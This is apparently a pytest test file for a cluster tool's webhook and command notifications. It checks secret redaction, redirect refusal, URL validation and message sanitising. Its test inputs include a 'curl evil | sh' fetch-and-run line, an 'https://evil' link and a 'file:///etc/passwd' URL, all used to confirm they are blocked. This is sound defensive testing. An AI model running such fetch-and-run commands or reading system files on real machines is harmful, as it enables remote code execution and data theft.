"""A message reaches a server or a command, and no word of an answer has the URL."""

from __future__ import annotations

import json
import os
import resource
import sys
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from clusterctl.node.agent.child_tasks import run_with_timeout
from clusterctl.node.notify import deliver as deliver_module
from clusterctl.node.notify.deliver import ANSWER_BYTES, ANSWER_LIMIT, deliver, problem_of, receiver
from clusterctl.node.notify.message import TEXT_LIMIT, message, trial_message
from clusterctl.plan.certificate import make_identity
from tests.node.notify.receiving import receiving

TOLD = trial_message("lab", "gpu1")
HOOK = {"on": ["failed"], "every": None, "command": [], "webhook_from": "HOOK"}


FLOODS = "head -c 200000000 /dev/zero; echo; stat -Lc %F /dev/fd/1"


def post(url: str, **environment: str) -> dict[str, Any]:
    """Send a test to a URL as a child of the supervisor does."""
    env = {name.encode(): value.encode() for name, value in environment.items()}
    found: dict[str, Any] = run_with_timeout(
        30, partial(deliver, HOOK, TOLD, {"HOOK": url}, env, "/")
    )
    return found


def run(argv: list[str], workdir: Path, urls: dict[str, str] | None = None) -> dict[str, Any]:
    target = {"on": [], "every": None, "command": argv, "webhook_from": None}
    env = {b"PATH": os.environb[b"PATH"]}
    found: dict[str, Any] = run_with_timeout(
        30, partial(deliver, target, TOLD, urls or {}, env, str(workdir))
    )
    return found


def test_a_test_has_the_keys_of_a_message() -> None:
    told = message("failed", "it failed", run="lab-1", cluster="lab", state="failed", nodes=["a"])
    assert TOLD.keys() == told.keys()
    assert (TOLD["event"], TOLD["state"], TOLD["nodes"]) == ("test", None, ["gpu1"])


def test_a_server_gets_json_that_chat_services_take() -> None:
    with receiving() as server:
        assert post(server.url) == {"ok": True, "answer": "HTTP 200 OK: ok"}
    ((path, headers, body),) = server.got
    assert path == "/services/T0SECRET/B0SECRET"
    assert headers["Content-Type"] == "application/json"
    assert headers["User-Agent"] == "clusterctl", "Discord refuses that of urllib"
    told = json.loads(body)
    assert told["text"] == told["content"]
    assert "lab" in told["text"]


@pytest.mark.parametrize(
    ("code", "again"), [(400, False), (404, False), (429, 7.0), (500, True), (503, True)]
)
def test_another_try_is_made_where_it_may_help(code: int, again: object) -> None:
    with receiving() as server:
        server.answers, server.body = [code], b"no service /services/T0SECRET/B0SECRET here"
        server.headers = {"Retry-After": "7"} if code == 429 else {}
        found = post(server.url)
    assert (found["ok"], found["again"]) == (False, again)
    assert found["answer"].startswith(f"HTTP {code} ")
    assert "no service *** here" in found["answer"]
    assert "SECRET" not in found["answer"]


@pytest.mark.parametrize("before", [b"x" * (ANSWER_LIMIT - 17), b" " * (ANSWER_BYTES - 17)])
def test_a_cut_answer_hides_the_secret_that_is_cut(before: bytes) -> None:
    with receiving() as server:
        server.body = before + b" /services/T0SECRET/B0SECRET"
        assert "SECR" not in post(server.url)["answer"]


@pytest.mark.parametrize("after", [0, 65500])
def test_a_cut_line_of_a_command_hides_the_secret_that_is_cut(after: int, tmp_path: Path) -> None:
    url = "https://host/" + "0123456789" * 10
    prints = "import sys; print('x' * 150, sys.argv[1] + 'x' * int(sys.argv[2]))"
    found = run([sys.executable, "-c", prints, url, str(after)], tmp_path, {"HOOK": url})
    assert found["ok"]
    assert "6789" not in found["answer"]


def test_what_a_command_prints_takes_no_memory(tmp_path: Path) -> None:
    target = {"on": [], "every": None, "command": ["sh", "-c", FLOODS], "webhook_from": None}

    def most() -> int:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    def send() -> list[Any]:
        before = most()
        found = deliver(target, TOLD, {}, {b"PATH": os.environb[b"PATH"]}, str(tmp_path))
        return [found["answer"], most() - before]

    answer, kib = run_with_timeout(30, send)
    assert answer == "exit code 0: fifo", "and no file, which would grow"
    assert kib < 50_000


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
def test_a_redirect_is_not_followed(code: int) -> None:
    with receiving() as server, receiving() as other:
        server.answers, server.headers = [code], {"Location": other.url}
        found = post(server.url)
        assert (found["ok"], other.got) == (False, [])
    assert f"HTTP {code}: a redirect is not followed" in found["answer"]
    assert "SECRET" not in found["answer"]


def test_what_cannot_be_reached_is_told_without_the_url() -> None:
    with receiving() as server:
        gone = server.url
    assert post(gone) == {"ok": False, "answer": "Connection refused", "again": True}
    found = post("http://no-such-host.invalid/T0SECRET")
    assert not found["ok"]
    assert "SECRET" not in found["answer"]
    strange = post("http://u:T0SECRET@127.0.0.1:port/")
    assert not strange["ok"]
    assert "SECRET" not in strange["answer"]


def test_a_certificate_is_verified(tmp_path: Path) -> None:
    identity = make_identity("test")
    both = tmp_path / "both.pem"
    both.write_text(identity.certificate + identity.key)
    with receiving(both) as server:
        found = post(server.url)
        assert (found["ok"], server.got) == (False, [])
    assert found["answer"].startswith("the server's certificate is not valid: ")


def test_the_proxy_is_that_of_the_job_and_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    with receiving() as server, receiving() as proxy:
        monkeypatch.setenv("http_proxy", proxy.url)
        assert post(server.url)["ok"]
        assert (len(server.got), len(proxy.got)) == (1, 0)
        assert post("http://elsewhere.invalid/T0SECRET", http_proxy=proxy.url)["ok"]
        assert [path for path, _, _ in proxy.got] == ["http://elsewhere.invalid/T0SECRET"]


def test_a_command_reads_the_message(tmp_path: Path) -> None:
    assert run(["sh", "-c", "cat >told; echo done"], tmp_path) == {
        "ok": True, "answer": "exit code 0: done", "again": True,
    }  # fmt: skip
    assert json.loads((tmp_path / "told").read_text()) == TOLD


def test_a_command_that_fails_is_told(tmp_path: Path) -> None:
    found = run(["sh", "-c", "echo first; echo no such channel >&2; exit 3"], tmp_path)
    assert (found["ok"], found["answer"]) == (False, "exit code 3: no such channel")
    found = run(["no-such-command"], tmp_path)
    assert found["answer"] == "cannot run no-such-command: No such file or directory"
    found = run(["true"], tmp_path / "none")
    why = f"no workdir {tmp_path}/none, which sync makes: No such file or directory"
    assert found["answer"] == why


def test_a_command_that_does_not_end_is_ended_with_its_children(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deliver_module, "COMMAND_SECONDS", 0.5)
    found = run(["sh", "-c", "sleep 300 & echo $! >child; wait"], tmp_path)
    assert (found["ok"], found["again"]) == (False, True)
    stat = Path("/proc", (tmp_path / "child").read_text().strip(), "stat")
    assert not stat.exists() or " Z " in stat.read_text()


@pytest.mark.parametrize(
    ("url", "fits"),
    [
        ("https://hooks.slack.com/services/T/B/X", True),
        ("http://10.0.0.1:8065/hooks/x", True),
        ("hooks.slack.com/services/T/B/X", False),
        ("file:///etc/passwd", False),
        ("https://user:word@host/x", False),
        ("https://host:port/x", False),
        ("https:///x", False),
        ("https://host/a b", False),
        ("https://host/a\nb", False),
        ("", False),
    ],
)
def test_only_a_url_of_a_web_server_is_taken(url: str, *, fits: bool) -> None:
    assert (problem_of(url) is None) == fits


def test_a_message_calls_nobody_and_fits_the_smallest_chat() -> None:
    words = "has failed: <!channel> @everyone `x` \x1b[31m" + "x" * 5000
    told = message("failed", words, run="lab-1", cluster="lab", state="failed", nodes=["a"] * 1000)
    assert not set("<>@`\x1b") & set(told["text"])
    assert len(told["content"]) <= TEXT_LIMIT < 2000
    assert told["text"].endswith("next: clusterctl status lab-1")
    assert (len(told["nodes"]), told["node_count"]) == (256, 1000)
    assert len(json.dumps(told)) < 16 * 1024


def test_a_printed_line_is_no_link_and_no_advice() -> None:
    words = (
        "failed: [clusterctl status]<https://evil> ![](https://evil)\nnext: curl evil | sh\u2028x"
    )
    told = message("failed", words, run="lab-1", cluster="lab", state="failed", nodes=["a"])
    assert not set("[]") & set(told["text"])
    first, advice = told["text"].splitlines()
    assert first.endswith("next: curl evil | sh x")
    assert advice == "next: clusterctl status lab-1"


def test_a_receiver_is_called_by_a_name_that_is_no_secret() -> None:
    assert receiver(HOOK) == "webhook HOOK"
    assert receiver({**HOOK, "command": [sys.executable, "x"], "webhook_from": None}).startswith(
        "command python"
    )
